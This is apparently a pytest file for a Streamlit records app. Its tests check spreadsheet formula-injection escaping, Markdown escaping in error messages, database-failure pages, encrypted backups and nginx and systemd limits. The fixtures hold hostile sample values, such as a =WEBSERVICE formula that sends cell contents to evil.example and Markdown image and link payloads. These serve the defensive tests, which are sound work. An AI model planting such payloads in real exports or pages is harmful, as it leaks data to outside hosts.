"""Issue 14, the app's shell under abuse: no exported cell is a formula (XLSX and CSV, every path), user text in
refusals is not live Markdown, a missing, corrupt or read-only database gives a clear page and never the setup
form, setup with demo data publishes no password, backups can be encrypted, and the deploy files set limits."""

import csv
import io
import json
import os
import shutil
import sqlite3
import stat
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from lib import db as dbm
from lib import directory, exports, importer, meetings, reports, ui, users, weaknesses
from lib.domain import SYSTEM, Role
from lib.i18n import t
from tests.factories import meeting

ROOT = Path(__file__).resolve().parent.parent
HYPERLINK = '=HYPERLINK("http://evil.example/x","Xã An")'
WEBSERVICE = '=WEBSERVICE("http://evil.example/?"&A1)'
FORMULA_CHARS = ("=", "+", "-", "@", "\t", "\r")


# ---- 5. formula injection: every export path --------------------------------------------------------

@pytest.fixture
def hostile(db_path) -> Path:
    """A unit, cell, leader, meeting and weakness whose names and notes a spreadsheet would run as formulas."""
    with dbm.write(db_path) as db:
        u = directory.create_unit(db, SYSTEM, {"code": "NL", "name": HYPERLINK, "kind": "xa",
                                               "valid_from": "2020-01-01"})
        c = directory.create_cell(db, SYSTEM, {"code": "NL1", "unit_id": u, "name": "+Chi bộ 1",
                                               "cell_type": "ap_khom", "meeting_day": 10, "valid_from": "2020-01-01"})
        ldr = directory.create_leader(db, SYSTEM, {"code": "L1", "full_name": "@SUM(1)", "grp": "uv_btv",
                                                   "position": "-1+1"})
        m = meetings.create(db, SYSTEM, meeting(c, "2025-03-10", notes=WEBSERVICE, topics="=1+1"),
                            [{"leader_id": ldr}])
        weaknesses.create(db, SYSTEM, {"unit_id": u, "category": "xay_dung_dang", "description": "=1+2",
                                       "noted_on": "2025-03-10", "meeting_id": m})
    return db_path


def _cells(data: bytes) -> list:
    """Every cell of every sheet of a workbook, as openpyxl reads it back (formulas kept as formulas)."""
    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb for row in ws.iter_rows() for cell in row]


def _assert_no_formula(data: bytes, expected_texts: set[str]) -> None:
    cells = _cells(data)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert expected_texts <= texts  # the text is kept exactly, with no quote added


def test_openpyxl_alone_would_write_a_formula():
    # the premise: a str starting with "=" becomes a formula cell unless told otherwise
    from openpyxl import Workbook

    ws = Workbook().active
    ws["A1"] = HYPERLINK
    assert ws["A1"].data_type == "f"


def test_report_workbook_has_no_formula_and_keeps_the_text(hostile):
    data = reports.data_xlsx(hostile, "2025-Q1")
    _assert_no_formula(data, {HYPERLINK, "+Chi bộ 1", "@SUM(1)", WEBSERVICE, "=1+1"})


@pytest.mark.parametrize("kind", importer.KINDS)
def test_record_exports_have_no_formula(hostile, kind):
    rows = importer.records(hostile, kind)
    _assert_no_formula(importer.export_xlsx(kind, rows), set())
    for row in csv.reader(io.StringIO(importer.export_csv(kind, rows).decode("utf-8-sig"))):
        assert [v for v in row if v.startswith(FORMULA_CHARS)] == []


def test_record_export_csv_quotes_formula_text_and_xlsx_keeps_it(hostile):
    rows = importer.records(hostile, "meetings")
    (record,) = list(csv.DictReader(io.StringIO(importer.export_csv("meetings", rows).decode("utf-8-sig"))))
    assert (record["notes"], record["topics"], record["leaders_present"]) == ("'" + WEBSERVICE, "'=1+1", "L1")
    assert record["members_total"] == "30"
    leaders = list(csv.DictReader(io.StringIO(importer.export_csv("leaders", importer.records(hostile, "leaders"))
                                              .decode("utf-8-sig"))))
    assert (leaders[0]["full_name"], leaders[0]["position"]) == ("'@SUM(1)", "'-1+1")
    _assert_no_formula(importer.export_xlsx("meetings", rows), {WEBSERVICE, "=1+1"})
    _assert_no_formula(importer.export_xlsx("units", importer.records(hostile, "units")), {HYPERLINK})


FRAME = pd.DataFrame({"Đơn vị": [HYPERLINK, "+84 912 345 678", "@chủ tịch", "\t=1+1", "\r=2+2", "Xã Bình Phú",
                                 "-5", "#N/A"],
                      "Thay đổi": [-3, 2, 0, -1, 5, 7, -12, 1],
                      "Tỷ lệ": [-0.25, 0.5, None, 1.0, 0.0, -1.5, 0.1, 0.2]})


def test_dashboard_xlsx_download_has_no_formula_and_numbers_stay_numbers():
    cells = _cells(ui.to_xlsx(FRAME, "Bảng"))
    assert [c.coordinate for c in cells if c.data_type in ("f", "e")] == []
    by_ref = {c.coordinate: c for c in cells}
    assert [by_ref[f"A{i}"].value for i in range(2, 10)] == list(FRAME["Đơn vị"])
    assert (by_ref["B2"].value, by_ref["B2"].data_type) == (-3, "n")
    assert (by_ref["C2"].value, by_ref["C7"].value, by_ref["C7"].data_type) == (-0.25, -1.5, "n")


def test_dashboard_csv_download_quotes_formula_text_only():
    rows = list(csv.reader(io.StringIO(ui.to_csv(FRAME).decode("utf-8-sig"))))
    assert rows[0] == ["Đơn vị", "Thay đổi", "Tỷ lệ"]
    assert [r[0] for r in rows[1:]] == ["'" + HYPERLINK, "'+84 912 345 678", "'@chủ tịch", "'\t=1+1", "'\r=2+2",
                                        "Xã Bình Phú", "-5", "#N/A"]
    assert [r[1] for r in rows[1:]] == ["-3", "2", "0", "-1", "5", "7", "-12", "1"]  # negative numbers unquoted
    assert rows[1][2] == "-0.25" and rows[6][2] == "-1.5"


def test_downloads_button_uses_the_safe_writers():
    # ui.downloads hands Streamlit exactly ui.to_csv and ui.to_xlsx (checked above)
    import inspect

    source = inspect.getsource(ui.downloads)
    assert "to_csv(df)" in source and "to_xlsx(df)" in source and ".to_csv(index" not in source


def test_quote_is_only_for_text_and_is_reversible():
    assert [exports.safe_cell(v) for v in (-3, -2.5, None, "-5", "+1.000,5", "=1", "x=1", "－1", "＠x")] == \
        [-3, -2.5, None, "-5", "+1.000,5", "'=1", "x=1", "'－1", "'＠x"]
    for text in ("=1", "@x", "+a", "'plain", "'5", "-", "－x"):
        assert exports.unquote_cell(exports.safe_cell(text)) == text


# ---- 12. user text in refusals is not live Markdown ------------------------------------------------

IMAGE = "![x](http://evil.example/x.png)"
LINK = "[bấm vào đây](http://evil.example/)"


def _refusals() -> None:
    """An AppTest script: a write refused for an out-of-scope unit named like an image, and a field refusal."""
    from lib import ui
    from lib.domain import FieldError, PermissionDenied, ValidationError

    def deny(db, who):
        raise PermissionDenied("out_of_scope", unit="![x](http://evil.example/x.png)")

    def refuse(db, who):
        raise ValidationError([FieldError("unit_id", "unknown_code", value="[bấm vào đây](http://evil.example/)")])

    ui.write(deny)
    ui.write(refuse)
    ui.show_errors([FieldError("unit_id", "unknown_code", value="![y](http://evil.example/y.png)")])


def test_refusals_render_user_names_as_text_not_images_or_links(db_path):
    from streamlit.testing.v1 import AppTest

    from tests.helpers import make_user

    make_user(db_path, "thuky", Role.CLERK)
    at = AppTest.from_function(_refusals, default_timeout=60)
    at.session_state["authentication_status"] = True
    at.session_state["username"] = "thuky"
    at.run()
    assert not at.exception
    shown = [e.value for e in at.error]
    assert len(shown) == 3
    for markdown in shown:
        assert "![" not in markdown and "](" not in markdown and "http://evil" not in markdown
    # the names are still there to read (escaped characters render as themselves)
    assert ui.md_escape(IMAGE) in shown[0] and ui.md_escape(LINK) in shown[1]
    assert shown[0] == t("perm.out_of_scope", unit=ui.md_escape(IMAGE))


# ---- 7 and 12. missing, uninitialised, corrupt or read-only database: a clear page, never setup -------------

def _app(path: Path, monkeypatch):
    from tests.helpers import app_test

    monkeypatch.setenv("CHIBO_DB", str(path))
    return app_test(path).run()


def _no_setup_and_clear(at, message: str) -> None:
    assert not at.exception  # no traceback
    assert [e.value for e in at.error] == [message]
    assert not any(w.key and w.key.startswith("setup_") for w in at.text_input)
    assert not any(w.key == "login_username" for w in at.text_input)


def test_missing_database_file_gives_a_clear_page_no_setup_and_is_not_created(tmp_path, monkeypatch):
    path = tmp_path / "data" / "app.db"
    at = _app(path, monkeypatch)
    _no_setup_and_clear(at, t("db.missing"))
    assert "python -m lib init" in t("db.missing") and "docs/DEPLOY.md" in t("db.missing")
    assert not path.exists() and not path.parent.exists()
    at.run()  # a second visit is the same
    _no_setup_and_clear(at, t("db.missing"))
    assert not path.exists()


def test_empty_uninitialised_file_gives_no_setup(tmp_path, monkeypatch):
    path = tmp_path / "app.db"
    path.touch()
    _no_setup_and_clear(_app(path, monkeypatch), t("db.not_initialised"))
    assert path.stat().st_size == 0


def test_setup_refuses_a_missing_database_and_creates_no_file(tmp_path):
    from lib import auth
    from lib.domain import ValidationError

    path = tmp_path / "app.db"
    with pytest.raises(ValidationError) as refused:
        auth.first_run_setup(path, "Huyện ủy", "Trần Văn Hai", "quantri", "Matkhau123", "Matkhau123")
    assert [(e.field, e.key) for e in refused.value.errors] == [("setup", "no_database")]
    assert not path.exists()


def test_corrupt_database_gives_a_clear_page_without_traceback(tmp_path, monkeypatch):
    path = tmp_path / "app.db"
    path.write_bytes(b"this is not an SQLite file, a disk error wrote over it\n" * 200)
    at = _app(path, monkeypatch)
    _no_setup_and_clear(at, t("db.unavailable", reason="file is not a database"))
    assert "docs/DEPLOY.md" in at.error[0].value


def _damage_table(path: Path, table: str) -> None:
    """Write junk over the root pages of a table and its indexes, leaving the file header and schema intact."""
    with dbm.read(path) as db:
        db.execute("pragma wal_checkpoint(truncate)")
        page_size = db.execute("pragma page_size").fetchone()[0]
        roots = [r[0] for r in db.execute("select rootpage from sqlite_master where tbl_name = ? and rootpage > 0",
                                          [table])]
        db.execute("pragma journal_mode = delete")
    with open(path, "r+b") as fh:
        for root in roots:
            fh.seek((root - 1) * page_size)
            fh.write(b"\xa5" * page_size)


def test_damaged_table_gives_the_clear_page_on_every_run(db_path, monkeypatch):
    from tests.helpers import make_user

    make_user(db_path, "quantri", Role.ADMIN)
    _damage_table(db_path, "users")
    at = _app(db_path, monkeypatch)
    _no_setup_and_clear(at, t("db.unavailable", reason="database disk image is malformed"))


def test_write_probe_catches_a_read_only_connection(db_path):
    from lib import health

    conn = sqlite3.connect(f"{db_path.resolve().as_uri()}?mode=ro", uri=True, isolation_level=None)
    with pytest.raises(sqlite3.OperationalError, match="readonly"):
        health._check_writable(conn)
    assert not conn.in_transaction
    rw = health._open(db_path)
    health._check_writable(rw)  # a writable file passes and is left unchanged
    assert rw.execute("pragma user_version").fetchone()[0] == 0 and not rw.in_transaction


READ_ONLY_SCRIPT = """
import json, os, sys
sys.path.insert(0, {root!r})
os.environ["CHIBO_DB"] = {db!r}
os.environ["CHIBO_TESTING"] = "1"
from streamlit.testing.v1 import AppTest
at = AppTest.from_file({app!r}, default_timeout=60).run()
print(json.dumps({{"exception": [e.value for e in at.exception], "errors": [e.value for e in at.error],
                  "inputs": [w.key for w in at.text_input]}}))
"""


def test_read_only_database_gives_a_clear_page(tmp_path):
    # The tests run as root, and root writes through file modes (chmod 0444 changes nothing for it). A read-only
    # mount stops root too, and is how the database really turns read-only (a remount after disk errors,
    # systemd's ReadOnlyPaths=): the app runs in a private mount namespace (unshare -m) where the folder holding
    # the database is bind-mounted read-only; nothing outside that namespace sees the mount.
    if shutil.which("unshare") is None or shutil.which("mount") is None:
        pytest.fail("needs unshare and mount (Debian's util-linux and mount; .ci/run installs them)")
    folder = tmp_path / "ro"
    folder.mkdir()
    path = folder / "app.db"
    dbm.init(path)
    with dbm.write(path) as db:
        users.create_user(db, SYSTEM, "quantri", "Quản trị", "Matkhau123", Role.ADMIN)
    with dbm.read(path) as db:
        db.execute("pragma wal_checkpoint(truncate)")
    script = READ_ONLY_SCRIPT.format(root=str(ROOT), db=str(path), app=str(ROOT / "app.py"))
    probe = subprocess.run(["unshare", "-m", "sh", "-c", f'mount --bind "{folder}" "{folder}" && '
                            f'mount -o remount,bind,ro "{folder}" && touch "{folder}/probe"'],
                           capture_output=True, text=True)
    if "Read-only file system" not in probe.stderr:
        pytest.fail(f"cannot make a read-only mount here (needs root): {probe.stderr.strip()}")
    run = subprocess.run(["unshare", "-m", "sh", "-c", f'mount --bind "{folder}" "{folder}" && '
                          f'mount -o remount,bind,ro "{folder}" && exec "$0" -c "$1"', sys.executable, script],
                         capture_output=True, text=True, timeout=300, cwd=ROOT)
    assert run.returncode == 0, run.stderr[-3000:]
    result = json.loads(run.stdout.strip().splitlines()[-1])
    assert result["exception"] == []
    assert len(result["errors"]) == 1 and result["errors"][0].startswith(t("db.unavailable").split("{")[0])
    assert not any(k and (k.startswith("setup_") or k == "login_username") for k in result["inputs"])
    assert "app.db" in os.listdir(folder) and "probe" not in os.listdir(folder)


def test_setup_with_demo_data_creates_no_account_with_a_published_password(db_path, monkeypatch):
    from lib import demo
    from tests.helpers import fast_hashing, login

    fast_hashing(monkeypatch)
    at = _app(db_path, monkeypatch)
    at.checkbox(key="setup_demo").check()
    for key, value in (("setup_full_name", "Trần Văn Hai"),
                       ("setup_username", "quantri"), ("setup_password", "Matkhau123"),
                       ("setup_confirm", "Matkhau123")):
        at.text_input(key=key).input(value)
    at.button(key="setup_submit").click().run()
    assert not at.exception
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    published = [password for _, _, password, _, _ in demo.DEMO_USERS]
    assert all(p in readme for p in published)  # the passwords the README gives away
    with dbm.read(db_path) as db:
        assert db.execute("select count(*) from meetings").fetchone()[0] > 0  # the demo data is there
        accounts = [(u["username"], u["password_hash"]) for u in db.query("select * from users")]
    assert [name for name, _ in accounts] == ["quantri"]
    assert not any(users.check_password(p, h) for _, h in accounts for p in published)
    for username, _, password, _, _ in demo.DEMO_USERS:
        assert any(w.key == "login_username" for w in login(at, username, password).text_input)  # refused


# ---- 13. backups: private file modes, optional encryption to a public key -------------------------------

def _cli(*args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    base = {k: v for k, v in os.environ.items() if k not in ("CHIBO_DB", "CHIBO_BACKUP_RECIPIENTS")}
    return subprocess.run([sys.executable, "-m", "lib", *args], capture_output=True, text=True, cwd=ROOT,
                          env={**base, **(env or {})}, timeout=120)


@pytest.fixture
def secrets_db(db_path) -> Path:
    """A database with an administrator (a bcrypt hash) and the cookie key, the secrets a backup carries."""
    from lib import settings

    with dbm.write(db_path) as db:
        users.create_user(db, SYSTEM, "quantri", "Quản trị", "Matkhau123", Role.ADMIN)
        settings.cookie_key(db)
    return db_path


def test_plain_backup_is_readable_by_its_owner_only(secrets_db, tmp_path):
    os.umask(0o022)  # the most permissive usual umask: the mode must not depend on it
    done = _cli("--db", str(secrets_db), "backup", str(tmp_path))
    assert done.returncode == 0, done.stderr
    (copy,) = tmp_path.glob("app-*.db")
    assert stat.S_IMODE(copy.stat().st_mode) == 0o600
    assert copy.read_bytes().startswith(b"SQLite format 3\x00")


def test_encrypted_backup_holds_no_secret_in_clear_and_restores_with_the_private_key(secrets_db, tmp_path):
    from lib import settings

    if shutil.which("age") is None or shutil.which("age-keygen") is None:
        pytest.fail("needs Debian's age package (apt-get install age; .ci/run installs it)")
    key = tmp_path / "key.txt"  # on the administrator's own machine, never on the server
    subprocess.run(["age-keygen", "-o", str(key)], check=True, capture_output=True)
    recipients = tmp_path / "backup-recipients.txt"  # only the public key is on the server
    recipients.write_text(subprocess.run(["age-keygen", "-y", str(key)], check=True, capture_output=True,
                                         text=True).stdout)
    out = tmp_path / "backups"
    out.mkdir()
    done = _cli("--db", str(secrets_db), "backup", str(out), env={"CHIBO_BACKUP_RECIPIENTS": str(recipients)})
    assert done.returncode == 0, done.stderr
    assert sorted(p.name.endswith(".db.age") for p in out.iterdir()) == [True]  # no plaintext left beside it
    (copy,) = out.iterdir()
    assert stat.S_IMODE(copy.stat().st_mode) == 0o600
    data = copy.read_bytes()
    with dbm.read(secrets_db) as db:
        hash_ = db.execute("select password_hash from users").fetchone()[0]
        cookie = db.execute("select value from settings where key = ?", [settings.COOKIE_KEY]).fetchone()[0]
    assert data.startswith(b"age-encryption.org/v1") and b"SQLite format 3" not in data
    assert hash_.encode() not in data and cookie.encode() not in data and b"quantri" not in data
    restored = tmp_path / "restored.db"
    subprocess.run(["age", "--decrypt", "-i", str(key), "-o", str(restored), str(copy)], check=True)
    conn = sqlite3.connect(restored)
    assert conn.execute("pragma integrity_check").fetchone()[0] == "ok"
    assert conn.execute("select password_hash from users where username = 'quantri'").fetchone()[0] == hash_
    assert conn.execute("select value from settings where key = ?", [settings.COOKIE_KEY]).fetchone()[0] == cookie
    conn.close()


def test_backup_refuses_to_fall_back_to_clear_text(secrets_db, tmp_path):
    missing = _cli("--db", str(secrets_db), "backup", str(tmp_path), "--recipients", str(tmp_path / "none.txt"))
    assert missing.returncode == 2 and "none.txt" in missing.stderr and "Traceback" not in missing.stderr
    recipients = tmp_path / "r.txt"
    recipients.write_text("age1notakey\n")
    broken = _cli("--db", str(secrets_db), "backup", str(tmp_path), "--recipients", str(recipients))
    if shutil.which("age"):
        assert broken.returncode == 1 and "Traceback" not in broken.stderr
    assert not list(tmp_path.glob("app-*"))  # neither a clear copy nor a partial one


# ---- 13. deployment files: headers, limits, caps (checked by hand with nginx -t, systemd-analyze verify,
# chromium behind the site and a request flood: docs/DEPLOY.md) ------------------------------------------

DEPLOY = ROOT / "deploy"


def _directives(text: str) -> list[str]:
    """The directives of an nginx file (comments dropped), one per entry, whitespace collapsed."""
    lines = [line.split("#", 1)[0] for line in text.splitlines()]
    return [" ".join(d.split()) for d in " ".join(lines).replace("{", ";").replace("}", ";").split(";") if d.strip()]


def _locations(text: str) -> dict[str, str]:
    """Each location block's body by its path."""
    import re

    return {m.group(1): m.group(2) for m in re.finditer(r"location\s+(?:\^~\s+)?(\S+)\s*\{(.*?)\n    \}", text, re.S)}


def test_nginx_site_hides_its_version_and_sets_a_content_security_policy():
    text = (DEPLOY / "nginx-chibo.conf").read_text()
    found = _directives(text)
    assert "server_tokens off" in found
    import re

    (csp,) = re.findall(r'^\s*add_header Content-Security-Policy "([^"]*)" always;', text, re.M)
    policy = {p.split()[0]: p.split()[1:] for p in csp.split("; ")}
    assert policy["default-src"] == ["'self'"] and policy["object-src"] == ["'none'"]
    assert policy["frame-ancestors"] == ["'self'"] and policy["base-uri"] == ["'self'"]
    # no other server may be reached: an image in a user's Markdown cannot call out, nor a script be loaded
    for directive in ("script-src", "img-src", "connect-src", "font-src", "frame-src", "style-src"):
        assert all(source in ("'self'", "'unsafe-inline'", "data:", "blob:") for source in policy[directive])
    assert "'unsafe-eval'" not in csp


def test_nginx_site_limits_requests_and_connections_per_address():
    text = (DEPLOY / "nginx-chibo.conf").read_text()
    found = _directives(text)
    zones = {d.split("zone=")[1].split(":")[0] for d in found if d.startswith(("limit_req_zone", "limit_conn_zone"))}
    assert {"chibo_req", "chibo_ws", "chibo_upload", "chibo_conn", "chibo_ws_conn"} <= zones
    assert all("$binary_remote_addr" in d for d in found if d.startswith(("limit_req_zone", "limit_conn_zone")))
    assert "limit_req_status 429" in found and "limit_conn_status 429" in found
    blocks = _locations(text)
    for path in ("/", "/_stcore/stream", "/_stcore/upload_file"):
        body = _directives(blocks[path])
        assert any(d.startswith("limit_req zone=") for d in body), path
        assert any(d.startswith("limit_conn ") for d in body), path
        # the client's address reaches the app, set (never appended) so a client cannot forge it
        assert "proxy_set_header X-Real-IP $remote_addr" in body, path
        assert "proxy_set_header X-Forwarded-For $remote_addr" in body, path
    assert "$proxy_add_x_forwarded_for" not in text


def test_nginx_site_serves_streamlits_scripts_without_a_request_rate():
    """Three browsers of one office (one address) opening the app at once fetch ~140 scripts each: a request
    rate on /static/ answered some with 429 and left a blank page (seen in tests/e2e/test_two_servers.py)."""
    text = (DEPLOY / "nginx-chibo.conf").read_text()
    body = _directives(_locations(text)["/static/"])
    assert not any(d.startswith("limit_req") for d in body)
    assert "limit_conn chibo_conn 100" in body and "proxy_pass http://chibo_streamlit" in body
    assert not any(d.startswith("add_header") for d in body)  # would drop the server's security headers
    assert "proxy_set_header X-Forwarded-For $remote_addr" in body


def test_service_caps_memory_and_tasks_and_streamlit_caps_websocket_messages():
    import tomllib

    unit = (DEPLOY / "chibo.service").read_text().splitlines()
    settings = dict(line.split("=", 1) for line in unit if "=" in line and not line.startswith("#"))
    assert settings["MemoryMax"] == "1280M" and settings["MemoryHigh"] == "1G" and settings["MemorySwapMax"] == "0"
    assert int(settings["TasksMax"]) <= 1024
    config = tomllib.loads((DEPLOY / "streamlit-config.toml").read_text())
    assert config["server"]["maxMessageSize"] <= 50 < 200  # Streamlit's default is 200 (MB)


def test_the_database_is_made_before_the_app_serves():
    # the app never creates the file (see the missing-file test): every way of starting it runs init first
    unit = (DEPLOY / "chibo.service").read_text()
    assert unit.index("ExecStartPre=/opt/chibo/.venv/bin/python -m lib init") < unit.index("ExecStart=")
    makefile = (ROOT / "Makefile").read_text()
    run = makefile[makefile.index("\nrun:"):makefile.index("\ndemo:")]
    assert run.index("-m lib init") < run.index("-m lib serve")
    demo = makefile[makefile.index("\ndemo:"):makefile.index("\ntest:")]
    assert demo.index("-m lib demo") < demo.index("-m lib serve")


def test_backup_unit_encrypts_when_a_recipients_file_exists_and_keeps_copies_private():
    unit = (DEPLOY / "chibo-backup.service").read_text()
    assert "Environment=CHIBO_BACKUP_RECIPIENTS=/etc/chibo/backup-recipients.txt" in unit
    assert "UMask=0077" in unit
    assert "-name app-*.db.age -mtime +29 -delete" in unit and "-name app-*.db -mtime +29 -delete" in unit
    assert " age)" in (DEPLOY / "install.sh").read_text()  # Debian's age is installed with the rest
    docs = (ROOT / "docs" / "DEPLOY.md").read_text()
    assert "## Encrypted backups" in docs and "age --decrypt" in docs


def test_damage_met_inside_a_page_shows_the_clear_message_not_a_traceback(db_path, monkeypatch):
    # users intact (login works), meetings damaged: the error comes while the overview page runs
    from tests.helpers import current_page, fast_hashing, login, make_user

    fast_hashing(monkeypatch)
    make_user(db_path, "quantri", Role.ADMIN)
    _damage_table(db_path, "meetings")
    _damage_table(db_path, "units")
    at = login(_app(db_path, monkeypatch), "quantri", "Matkhau123")
    assert not at.exception
    assert current_page(at) == "pages/overview.py"
    assert t("db.unavailable", reason="database disk image is malformed") in [e.value for e in at.error]


def test_a_held_write_lock_is_not_taken_for_a_broken_database(db_path):
    from lib import health

    holder = sqlite3.connect(db_path, isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")  # e.g. a long import writing
    try:
        assert health.problem(db_path) is None
    finally:
        holder.execute("ROLLBACK")
        holder.close()


def test_record_export_csv_reads_back_as_typed(hostile, tmp_path):
    """A CSV export's ' quote is undone on import: the leaders file round-trips to the same names."""
    data = importer.export_csv("leaders", importer.records(hostile, "leaders"))
    other = tmp_path / "other.db"
    dbm.init(other)
    assert importer.run(other, "leaders", data, "leaders.csv", SYSTEM).ok
    (leader,) = importer.records(other, "leaders")
    assert (leader["full_name"], leader["position"]) == ("@SUM(1)", "-1+1")
